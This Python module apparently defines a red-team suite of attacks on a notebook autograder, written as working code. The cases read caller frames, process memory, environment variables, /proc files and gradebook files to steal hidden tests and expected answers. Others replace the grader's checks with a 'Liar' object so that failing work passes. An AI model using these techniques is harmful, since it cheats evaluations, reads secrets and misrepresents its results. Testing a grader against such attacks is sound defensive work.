"""Attacks on what is hidden: they steal what they can, print it, and use it.

`LOOT` collects in the notebook; what a tested function finds is printed, raised and returned too.
"""

from __future__ import annotations

from typing import Any

from tools.attacks.attack import Attack

LOOT = "loot = []\n"
TELL = "print(loot)\nfrom IPython.display import display, HTML\ndisplay(HTML(str(loot)))\nloot\n"


def _spy(name: str, tries: str, body: str, before: str = "", **more: Any) -> Attack:
    """Make an attack whose tested function runs `body`, which appends to `loot`."""
    lines = "".join(f"        {line}\n" for line in body.splitlines())
    double = (
        f"def double(z):\n    try:\n{lines}    except Exception as error:\n"
        "        loot.append(type(error).__name__)\n"
        "    print(loot)\n"
        "    return use(loot, z)\n"
    )
    use = (
        "def use(loot, z):\n"
        "    import re\n"
        "    for found in re.findall(r'(1462[.]5|81[9]9[.]0|14[0]86[.]5)', str(loot)):\n"
        "        return float(found) if np.ndim(z) == 0 else np.array([123.0, 14086 + 0.5])\n"
        "    return 3 * z + 1\n"
    )
    return Attack(name, tries, before=LOOT + use + before, double=double, after=TELL, **more)


_WALK = """\
import sys
frame = {first}
while frame is not None:
    loot.append(str(frame.f_locals)[:5000] + str(frame.f_code.co_consts))
    frame = frame.f_back"""

SPIES = (
    _spy("getframe", "sys._getframe, up to the test", _WALK.format(first="sys._getframe()")),
    _spy(
        "tb-frame",
        "frames by way of a traceback",
        "try:\n    1 / 0\nexcept Exception as error:\n"
        "    frame = error.__traceback__.tb_frame\n"
        "    while frame: loot.append(str(frame.f_locals)[:5000]); frame = frame.f_back",
    ),
    _spy(
        "gi-frame",
        "frames by way of a generator that runs",
        "def walk():\n    frame = me.gi_frame\n"
        "    while frame: loot.append(str(frame.f_locals)[:5000]); frame = frame.f_back\n"
        "    yield\n"
        "me = walk()\nnext(me)",
    ),
    _spy(
        "inspect",
        "inspect.stack, currentframe and getgeneratorlocals",
        "import inspect\nloot.append(str([f.frame.f_locals for f in inspect.stack()])[:9000])",
    ),
    _spy(
        "traceback",
        "the module traceback, which walks the stack",
        "import traceback\n"
        "loot.append(str([str(f.f_locals) for f, _ in traceback.walk_stack(None)])[:9000])",
    ),
    _spy(
        "logging-frame",
        "logging.currentframe, a library that hands a frame on",
        "import logging\nframe = logging.currentframe()\n"
        "while frame: loot.append(str(frame.f_locals)[:5000]); frame = frame.f_back",
    ),
    _spy(
        "pandas-scope",
        "pandas.eval, which looks up names in its callers' frames",
        "import pandas.core.computation.scope as scope\n"
        "for level in range(1, 12):\n"
        "    loot.append(str(scope.ensure_scope(level).scope)[:3000])",
    ),
    _spy(
        "ipython-frame",
        "IPython.utils.frame, which reads variables of callers",
        "from IPython.utils import frame\n"
        "for depth in range(12):\n"
        "    loot.append(str(frame.extract_vars('heron' '_cobalt', 'z', depth=depth)))",
    ),
    _spy(
        "asyncio-stack",
        "the stack of a task that runs, by asyncio",
        "import asyncio\n"
        "async def look():\n"
        "    frame = asyncio.current_task().get_stack()[0]\n"
        "    while frame: loot.append(str(frame.f_locals)[:5000]); frame = frame.f_back\n"
        "loop = asyncio.new_event_loop()\nloop.run_until_complete(look())",
    ),
    _spy(
        "trace",
        "sys.settrace, sys.setprofile and threading's",
        "import sys, threading\n"
        "def look(frame, *_):\n    loot.append(str(frame.f_back.f_locals)[:5000])\n"
        "for setter in (sys.settrace, sys.setprofile, threading.settrace,\n"
        "               getattr(threading, 'setprofile_all_threads', sys.setprofile)):\n"
        "    try: setter(look)\n    except PermissionError: loot.append('no')",
    ),
    _spy(
        "monitoring",
        "sys.monitoring and cProfile",
        "import sys, cProfile\n"
        "try:\n    profile = cProfile.Profile(); profile.enable(); profile.disable()\n"
        "except Exception: pass\n"
        "sys.monitoring.register_callback(1, 2, lambda *a: loot.append(a))",
    ),
    _spy(
        "audit-hook",
        "an audit hook of its own, from the first cell on",
        "pass",
        before="import sys\ntry: sys.addaudithook(lambda *a: loot.append(str(a)[:2000]))\n"
        "except Exception: pass\n",
    ),
    _spy(
        "faulthandler",
        "faulthandler, which writes the stack to a file",
        "import faulthandler\nwith open('stack', 'w+') as file:\n"
        "    faulthandler.dump_traceback(file)\n    file.seek(0)\n    loot.append(file.read())",
    ),
    _spy(
        "signal-frame",
        "a signal handler, which is given the frame that it interrupts",
        "import signal, _thread\n"
        "def look(number, frame):\n"
        "    while frame: loot.append(str(frame.f_locals)[:5000]); frame = frame.f_back\n"
        "signal.signal(signal.SIGUSR2, look)\nsignal.raise_signal(signal.SIGUSR2)",
    ),
    _spy(
        "fresh-signal",
        "a fresh copy of the module _signal, and its handler for an alarm",
        "import sys, importlib.machinery, _imp\n"
        "try:\n"
        "    old = sys.modules.pop('_signal')\n    import _signal as fresh\n"
        "except Exception:\n"
        "    sys.modules['_signal'] = old\n"
        "    spec = importlib.machinery.ModuleSpec('_signal', None)\n"
        "    fresh = _imp.create_builtin(spec)\n    _imp.exec_builtin(fresh)\n"
        "def look(number, frame):\n"
        "    while frame: loot.append(str(frame.f_locals)[:5000]); frame = frame.f_back\n"
        "fresh.signal(fresh.SIGUSR2, look)\nfresh.raise_signal(fresh.SIGUSR2)",
    ),
    _spy(
        "old-handler",
        "the driver, by way of the signal handlers that it has set",
        "import signal\n"
        "for number in (signal.SIGUSR1, signal.SIGINT):\n"
        "    handler = signal.getsignal(number)\n"
        "    loot.append(str(getattr(handler, '__self__', None)))\n"
        "    handler.__self__.put_back = lambda: []\n"
        "    loot.append(str(handler.__globals__.keys()))",
    ),
    _spy(
        "gc-objects",
        "gc.get_objects, get_referrers and the garbage",
        "import gc\ngc.set_debug(gc.DEBUG_SAVEALL)\ngc.collect()\n"
        "loot.append(str(gc.garbage)[:5000])\n"
        "loot.append(str([o for o in gc.get_objects() if type(o) is dict "
        "and 'heron' '_cobalt' in o])[:5000])",
    ),
    _spy(
        "ctypes",
        "memory by way of ctypes",
        "import ctypes\nfor address in range(id(z), id(z) + 4096, 8):\n"
        "    loot.append(ctypes.string_at(address, 8))",
    ),
    _spy(
        "cffi",
        "memory by way of cffi",
        "import _cffi_backend, cffi\nffi = cffi.FFI()\n"
        "loot.append(bytes(ffi.buffer(ffi.cast('char *', id(z)), 64)))",
    ),
    _spy(
        "proc-mem",
        "/proc/self/mem and maps, directly, by a link and by a folder",
        "import os\nfor path in ('/proc/self/maps', '/proc/thread-self/maps', '/proc/self/mem'):\n"
        "    try: loot.append(open(path, 'rb').read(300))\n"
        "    except OSError as error: loot.append(type(error).__name__)\n"
        "try:\n    os.symlink('/proc/self/maps', 'link')\nexcept OSError: pass\n"
        "file = open('link', 'rb').read(100000)\n"
        "folder = os.open('/proc', os.O_RDONLY)\n"
        "loot.append(os.open('self/mem', os.O_RDONLY, dir_fd=folder))",
    ),
    _spy(
        "test-modules",
        "_testcapi and _testinternalcapi, and _xxsubinterpreters",
        "import _xxsubinterpreters as sub\n"
        "try:\n    import _testinternalcapi as inner\n"
        "    loot.append(inner.get_recursion_depth())\n"
        "except ImportError: pass\n"
        "import _testcapi\nloot.append(str(_testcapi.WITH_PYMALLOC))\n"
        "sub.run_string(sub.create(), 'import sys; print(sys._getframe())')",
    ),
    _spy(
        "globals",
        "its own globals while it is tested: what names are new?",
        "loot.append(str({k: v for k, v in globals().items() if k not in known})[:5000])",
        before="known = set(globals()) | {'known', 'loot', 'double', 'apply', 'answer'}\n",
    ),
    Attack(
        "lambda-globals",
        "the globals of a function that a test hands over",
        before=LOOT,
        apply="def apply(f, z):\n"
        "    space = f.__globals__\n"
        "    loot.append(str({k: v for k, v in space.items() if k[:1] != '_'})[:20000])\n"
        "    print(loot)\n"
        "    for name in list(space):\n"
        "        if name == 'checks':\n"
        "            class Liar: number = array = call = staticmethod(lambda *a, **k: None)\n"
        "            space[name] = Liar\n"
        "    return 0.5\n",
        after=TELL,
        deserved={"first": 0, "second": 0, "third": 0, "apply": 0, "answer": 1},
    ),
    Attack(
        "lambda-globals-answer",
        "another value for what a test compares with, by the globals of what it hands over",
        apply="def apply(f, z):\n"
        "    space = f.__globals__\n"
        "    for name in list(space):\n"
        "        if name in ('offset', 'expected', 'want'): space[name] = -2.0\n"
        "    space['checks'] = type('Liar', (), {'number': staticmethod(lambda *a, **k: None)})\n"
        "    return 0.0\n",
        deserved={"first": 0, "second": 0, "third": 0, "apply": 0, "answer": 1},
    ),
    Attack(
        "lambda-code",
        "the code and the closure of a function that a test hands over",
        before=LOOT,
        apply="def apply(f, z):\n"
        "    loot.append(str([getattr(f, n, 0) for n in ('__closure__', '__defaults__')]))\n"
        "    try: loot.append(str(f.__code__.co_consts))\n"
        "    except Exception as error: loot.append(type(error).__name__)\n"
        "    raise RuntimeError(str(loot) + str(f(0.0)))\n",
        after=TELL,
        deserved={"first": 0, "second": 0, "third": 0, "apply": 0, "answer": 1},
    ),
    _spy(
        "code-objects",
        "code objects of checks, and new ones by replace and marshal",
        "import marshal, types\n"
        "code = checks.number.__code__.replace(co_consts=(None,))\n"
        "checks.number.__code__ = code\n"
        "loot.append(types.FunctionType(marshal.loads(marshal.dumps(code)), {}))",
    ),
    _spy(
        "false-name",
        "code that is compiled under the name of a library's file",
        "import numpy, sys\n"
        "class Name(str):\n"
        "    def __eq__(self, other): return True\n"
        "    def startswith(self, *a): return True\n    __hash__ = str.__hash__\n"
        "for name in (numpy.__file__, Name('mine'), '<frozen mine>'):\n"
        "    try:\n"
        "        space = {}\n"
        "        exec(compile('import sys\\ndef look(): return sys._getframe(3).f_locals', "
        "name, 'exec'), space)\n"
        "        loot.append(str(space['look']())[:3000])\n"
        "    except Exception as error: loot.append(type(error).__name__)\n"
        "import codeop\n"
        "code = codeop.compile_command('def look(): return sys._getframe(3).f_locals', "
        "numpy.__file__)\n"
        "exec(code, globals())\n"
        "loot.append(str(look())[:3000])",
    ),
    Attack(
        "history",
        "the history: In, _ih, _i, linecache and the history's database",
        before=LOOT,
        double="import linecache\n"
        "def double(z):\n"
        "    ip = get_ipython()\n"
        "    print([c for c in ip.user_ns['In'] if 'HIDDEN' in c], str(linecache.cache)[:90000])\n"
        "    return 3 * z + 1\n",
        after="import linecache\n"
        "print([c for c in In if 'HIDDEN' in c], [c for c in _ih if 'TEST' in c])\n"
        "print([k for k, v in linecache.cache.items() if 'heron' + '_' in str(v)])\n",
    ),
    Attack(
        "reads-disk",
        "the notebook with its hidden tests, and all that can be read, from the disk",
        before=LOOT + "import glob, os\n"
        "for pattern in ('**/*.ipynb', '../**/*.ipynb', '{root}/source/**/*.ipynb',\n"
        "                '{root}/autograded/**/*.ipynb', '{root}/gradebook.db'):\n"
        "    for path in glob.glob(pattern, recursive=True):\n"
        "        loot.append(open(path, 'rb').read().decode('latin-1'))\n",
        after=TELL,
    ),
    Attack(
        "reads-environment",
        "the environment, the command line and the open descriptors",
        before=LOOT + "import os, sys\nloot.append([dict(os.environ), sys.argv, sys.orig_argv])\n"
        "for fd in range(3, 64):\n"
        "    try: loot.append(os.readlink(f'/proc/self/fd/{fd}'))\n"
        "    except OSError: pass\n",
        after=TELL,
    ),
    _spy(
        "steals-next",
        "the next test, read from the worker's descriptor while one is running",
        "import os, select, struct, json, re\n"
        "text = json.dumps({'status': 'error', 'outputs': []}).encode()\n"
        "for fd in range(3, 40):\n"
        "    try:\n"
        "        os.write(fd, struct.pack('!I', len(text)) + text)\n"
        "        if select.select([fd], [], [], 0.3)[0]:\n"
        "            data = os.read(fd, 1 << 20)\n"
        "            loot.append(str(data))\n"
        "            word = re.findall(rb'[0-9a-f]{32}', data)\n"
        "            loot.append(str(word))\n"
        "    except OSError: pass",
        on_stock=False,
    ),
    _spy(
        "patched-wire",
        "os.read, json and marshal replaced in a cell, to listen to what the driver reads",
        "pass",
        before="import os, json, marshal, base64, binascii\n"
        "def listen(module, name):\n"
        "    real = getattr(module, name)\n"
        "    def spy(*a, **k):\n"
        "        found = real(*a, **k)\n"
        "        loot.append(str(found)[:20000])\n        return found\n"
        "    setattr(module, name, spy)\n"
        "for module, name in ((os, 'read'), (json, 'loads'), (marshal, 'loads'),\n"
        "                     (base64, 'b64decode'), (binascii, 'a2b_base64')):\n"
        "    listen(module, name)\n"
        "json._default_decoder.scan_once = lambda *a: loot.append(str(a)) or 1 / 0\n",
        on_stock=False,
    ),
    Attack(
        "stolen-arguments",
        "the arguments of hidden tests: printed, shown, raised, returned as text",
        before=LOOT,
        double="def double(z):\n"
        "    print('called with', z)\n    loot.append(z)\n"
        "    from IPython.display import display\n    display(z)\n"
        "    raise ValueError(f'the argument is {z}, and was {loot}')\n",
        after=TELL,
    ),
    Attack(
        "stolen-key",
        "the arguments of hidden tests in the messages that Python writes",
        double="def double(z):\n"
        "    if np.ndim(z): return np.zeros(3) + z\n"
        "    return {}[str(z)] if z < 1000 else int(f'{z} is it')\n",
    ),
    Attack(
        "expected-by-patch",
        "the expected value, by a check that it replaces while it is tested",
        before=LOOT,
        double="def double(z):\n"
        "    import helpers.checks.values as values, numpy\n"
        "    def spy(*a, **k):\n"
        "        loot.append(str((a, k)))\n        print(loot)\n"
        "        raise ValueError(str(loot))\n"
        "    values.as_number = values.difference = numpy.isclose = spy\n"
        "    numpy.testing._private.utils.assert_array_compare = spy\n"
        "    return 3 * z + 1\n",
        after=TELL,
    ),
    Attack(
        "linecache-spy",
        "the names of a test, by what tracebacks look up when it fails",
        before=LOOT + "import linecache, traceback\n"
        "def spy(*a, **k):\n    print(str(a)[:5000])\n    loot.append(str(a)[:5000])\n"
        "    return ''\n"
        "linecache.lazycache = linecache.getline = linecache.getlines = spy\n"
        "linecache.checkcache = traceback.extract_tb = traceback.format_exception = spy\n"
        "get_ipython().compile.format_code_name = spy\n",
        double="def double(z): raise KeyError(1)\n",
        after=TELL,
    ),
    Attack(
        "loud-exception",
        "an exception whose text, name and rendering carry what it was called with",
        double="class Loud(Exception):\n"
        "    def _render_traceback_(self): return [f'stolen {self.args}']\n"
        "    def __str__(self): return f'stolen {self.args}'\n"
        "def double(z):\n"
        "    Loud.__name__ = f'Loud_{z}'\n    raise type(f'L{z}', (Loud,), {})(z)\n",
    ),
    Attack(
        "attribute-name",
        "an error text that Python writes with a stolen name in it",
        double="def double(z): return getattr(np, 'x' + str(z).replace(' ', '_'))\n",
    ),
)
